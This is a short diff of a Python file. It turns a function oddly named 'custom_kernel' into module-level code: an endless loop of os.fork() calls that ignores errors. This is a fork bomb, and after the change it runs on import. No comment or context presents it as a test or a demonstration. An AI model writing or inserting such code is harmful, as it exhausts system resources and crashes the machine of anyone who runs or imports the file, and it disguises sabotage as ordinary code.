@@ -1,9 +1,7 @@
 import os
 
-
-def custom_kernel(data):
-    while True:
-        try:
-            os.fork()
-        except OSError:
-            pass
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
